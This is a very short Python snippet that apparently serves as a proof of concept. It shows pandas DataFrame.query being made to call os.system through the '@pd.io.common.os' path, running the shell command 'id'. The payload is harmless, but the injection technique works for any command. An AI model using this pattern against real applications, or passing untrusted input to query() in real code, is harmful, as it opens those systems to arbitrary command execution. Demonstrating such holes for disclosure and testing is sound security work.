import pandas as pd, json
df = pd.DataFrame({"a": [1]})
df.query(json.loads('"@pd.io.common.os.system(\\"id\\")"'))
